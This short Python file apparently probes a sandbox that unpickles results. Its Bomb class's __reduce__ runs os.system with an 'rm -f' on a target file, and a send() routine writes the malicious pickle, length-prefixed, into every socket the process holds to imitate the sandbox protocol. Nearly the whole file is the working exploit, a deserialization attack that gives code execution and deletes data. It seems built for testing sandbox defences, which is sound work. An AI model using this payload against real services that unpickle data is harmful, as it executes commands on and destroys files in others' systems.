"""Returns objects that run code when they are unpickled, and sends a bare pickle as well."""

# %%
import os, socket, stat, struct


def sockets():
    """Every socket that this process holds."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            pass


def send(body, length=None):
    """Writes a message into each of them, as the sandbox would."""
    for descriptor in sockets():
        try:
            os.write(descriptor, struct.pack("<I", len(body) if length is None else length) + body)
        except OSError:
            pass


# %%
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, (f"rm -f {PRECIOUS}; touch {PRECIOUS}.gone",))


def wave(x):
    send(pickle.dumps(Bomb()))
    return Bomb() if x.ndim == 1 else np.array([Bomb(), None], dtype=object)
